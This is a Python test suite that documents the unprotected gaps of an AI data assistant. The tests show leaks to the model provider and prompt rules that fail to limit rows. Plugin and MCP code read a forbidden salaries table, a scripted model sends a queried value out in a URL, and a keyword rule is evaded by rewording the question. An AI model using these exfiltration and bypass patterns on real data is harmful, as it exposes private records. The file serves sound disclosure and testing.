"""What is not protected: each sentence of that section, seen to be so."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

import httpx

from appliance.store.database import database_path
from tests.data_security.shop import (
    WRITES,
    asked,
    bot,
    make_data,
    read_by_model,
    results,
    script,
    sql,
    write_tools,
)
from tests.support.model_replies import Reply, openai_text, openai_tool_calls
from tests.support.model_server import Recorded
from tests.support.stack import stack
from tests.support.wire import wire
from tests.tools.web_server import reply, web_server


async def test_what_a_statement_gives_is_sent_to_the_models_provider(tmp_path: Path) -> None:
    async with stack(make_data(tmp_path), script("SELECT status FROM orders"), bots=bot()) as served:
        await asked(served, "bob")
        assert "bobs-parcel" in read_by_model(served)


async def test_sample_values_of_open_tables_are_sent_with_every_question(tmp_path: Path) -> None:
    async with stack(make_data(tmp_path), script(), bots=bot()) as served:
        await asked(served, question="Hello")
        assert "by card-4111" in read_by_model(served)


async def test_a_bot_without_rules_and_tables_shows_every_table_to_visitors(tmp_path: Path) -> None:
    statements = ("SELECT * FROM salaries", "SELECT count(*) AS n FROM orders")
    open_bot = bot("allow-unauthenticated: true")
    async with stack(make_data(tmp_path, rules=""), script(*statements), bots=open_bot) as served:
        async with wire(served.ws_url) as visitor:
            salaries, orders = results(await visitor.ask(await visitor.start()))
        assert salaries["data"] == [{"name": "Eve", "amount": 54321}]
        assert orders["data"] == [{"n": 3}]


async def test_a_prompt_keeps_no_row_back(tmp_path: Path) -> None:
    strict = bot(prompt="Never show orders of others. Only where user_id = '{{user_id}}'!")
    async with stack(make_data(tmp_path, rules=""), script("SELECT id FROM orders"), bots=strict) as served:
        [result] = results(await asked(served))
        assert result["row_count"] == 3


async def test_a_value_that_another_column_repeats_is_seen_there(tmp_path: Path) -> None:
    async with stack(make_data(tmp_path), script("SELECT payment FROM people"), bots=bot()) as served:
        [result] = results(await asked(served))
        assert {"payment": "by card-4111"} in result["data"]


async def test_a_view_with_an_entry_of_its_own_shows_all_that_it_selects(tmp_path: Path) -> None:
    rules = 'row-rules: {orders: "user_id = :user_id", everything: all}\n'
    make_data(tmp_path, rules)
    sql(tmp_path, "CREATE VIEW everything AS SELECT * FROM orders")
    async with stack(tmp_path, script("SELECT id FROM everything"), bots=bot()) as served:
        [result] = results(await asked(served))
        assert result["row_count"] == 3


async def test_a_unique_key_tells_that_a_row_of_somebody_else_is_there(tmp_path: Path) -> None:
    taken, free = (f"INSERT INTO orders (id, user_id) VALUES ({id}, 'alice')" for id in (2, 77))
    async with stack(make_data(tmp_path), script(taken, free), bots=bot(WRITES)) as served:
        refused, made = results(await asked(served))
        assert refused["error"]
        assert "bob" not in refused["error"]
        assert made["change"]["status"] == "applied"


async def test_the_number_of_a_new_row_tells_how_many_there_were(tmp_path: Path) -> None:
    make_data(tmp_path)
    sql(tmp_path, "INSERT INTO orders VALUES (4711, 'bob', 'new', 1)")
    insert = "INSERT INTO orders (user_id) VALUES ('alice')"
    async with stack(tmp_path, script(insert), bots=bot(WRITES)) as served:
        [result] = results(await asked(served))
        assert result["data"][0]["id"] == 4712


async def test_how_long_a_query_took_is_told_to_models_and_people(tmp_path: Path) -> None:
    async with stack(make_data(tmp_path), script("SELECT count(*) FROM orders"), bots=bot()) as served:
        await asked(served)
        assert "duration_ms" in read_by_model(served)


async def test_what_was_shown_before_a_rule_changed_stays_in_its_conversation(tmp_path: Path) -> None:
    make_data(tmp_path)
    async with stack(tmp_path, script("SELECT status FROM orders WHERE id = 3"), bots=bot()) as served:
        token = served.token("alice")
        async with wire(served.ws_url, token) as client:
            id = await client.start()
            [result] = results(await client.ask(id))
            (tmp_path / "data.yaml").write_text('row-rules: {"*": none}')
            await client.ask(id, "And now?")
        headers = {"Authorization": f"Bearer {token}"}
        async with httpx.AsyncClient(base_url=served.url, headers=headers) as http:
            kept = (await http.get(f"/api/v1/ai/results/{result['result_id']}")).json()
        assert kept["data"] == [{"status": "sent"}]


async def test_functions_of_tools_py_can_read_what_every_rule_forbids(tmp_path: Path) -> None:
    make_data(tmp_path)
    write_tools(
        tmp_path,
        f'''
import apsw

def peek() -> str:
    """Reads the file itself."""
    db = apsw.Connection({str(database_path(tmp_path))!r}, flags=apsw.SQLITE_OPEN_READONLY)
    return str(db.execute("SELECT * FROM salaries").fetchall())
''',
    )
    async with stack(tmp_path, script(("peek", {})), bots=bot()) as served:
        await asked(served)
        assert "54321" in read_by_model(served)


PROGRAM = """
import json, sqlite3, sys

def answer(method):
    if method == "initialize":
        info = {"name": "peek", "version": "1"}
        return {"protocolVersion": "2025-03-26", "capabilities": {"tools": {}}, "serverInfo": info}
    if method == "tools/list":
        return {"tools": [{"name": "peek", "description": "Peeks.", "inputSchema": {"type": "object"}}]}
    if method == "tools/call":
        db = sqlite3.connect(f"file:{sys.argv[1]}?mode=ro", uri=True)
        rows = db.execute("SELECT amount FROM salaries").fetchall()
        return {"content": [{"type": "text", "text": str(rows)}]}
    return {}

for line in sys.stdin:
    request = json.loads(line)
    if "id" in request and "method" in request:
        told = {"jsonrpc": "2.0", "id": request["id"], "result": answer(request["method"])}
        print(json.dumps(told), flush=True)
"""


async def test_a_program_of_mcp_servers_can_read_what_every_rule_forbids(tmp_path: Path) -> None:
    make_data(tmp_path)
    program = tmp_path / "peek.py"
    program.write_text(PROGRAM)
    servers = {"own": {"command": [sys.executable, str(program), str(database_path(tmp_path))]}}
    bots = bot(f"mcp-servers: {json.dumps(servers)}")
    async with stack(tmp_path, script(("own_peek", {})), bots=bots) as served:
        await asked(served)
        assert "54321" in read_by_model(served)


async def test_a_model_can_send_what_it_has_read_to_the_allowed_hosts(tmp_path: Path) -> None:
    async with web_server(reply(b"{}")) as outside:
        allowed = f"http-allowed-domains: ['127.0.0.1:{outside.port}']"
        leaks = reads_and_sends(outside.port)
        async with stack(make_data(tmp_path), leaks, bots=bot(allowed)) as served:
            await asked(served, "bob")
        assert outside.heads[0].startswith("GET /?q=bobs-parcel HTTP/1.1")


async def test_a_model_can_send_nothing_to_other_hosts(tmp_path: Path) -> None:
    async with web_server(reply(b"{}")) as outside:
        leaks = reads_and_sends(outside.port)
        async with stack(
            make_data(tmp_path), leaks, bots=bot("http-allowed-domains: [api.example.com]")
        ) as served:
            await asked(served, "bob")
            assert "allowed_domains" in read_by_model(served)
        async with stack(tmp_path, leaks, bots=bot()) as served:
            await asked(served, "bob")
            assert "There is no tool" in read_by_model(served)
        assert outside.connections == 0


def reads_and_sends(port: int) -> Callable[[Recorded], Reply]:
    """A model that puts the first value of a result into a URL."""

    def reply(request: Recorded) -> Reply:
        messages = request.body["messages"]
        tools = [message for message in messages if message["role"] == "tool"]
        if not tools:
            return openai_tool_calls(
                ("execute_sql", {"sql": "SELECT status FROM orders", "description": "it"})
            )
        if len(tools) == 1:
            [[value]] = json.loads(tools[0]["content"])["rows"]
            return openai_tool_calls(("http_get", {"url": f"http://127.0.0.1:{port}/?q={value}"}))
        return openai_text("Done.")

    return reply


async def test_a_rule_that_steers_is_silent_without_its_keyword(tmp_path: Path) -> None:
    steers = bot("intent-rules: [{keywords: [pay], forbidden-table: salaries}]")
    statement = "SELECT amount FROM salaries"
    async with stack(make_data(tmp_path, rules=""), script(statement), bots=steers) as served:
        [refused, *_] = results(await asked(served, question="How is the pay?"))
        assert refused["error"]
        [result] = results(await asked(served, question="What does Eve cost us?"))
        assert result["data"] == [{"amount": 54321}]


async def test_the_text_of_an_answer_is_the_models_own(tmp_path: Path) -> None:
    def lies(_: Recorded) -> Reply:
        return openai_text("I have deleted everything. Your balance is 7.")

    make_data(tmp_path)
    async with stack(tmp_path, lies, bots=bot(WRITES)) as served:
        frames = await asked(served)
        assert "balance is 7" in str(frames)
        assert sql(tmp_path, "SELECT count(*) FROM orders") == [(3,)]
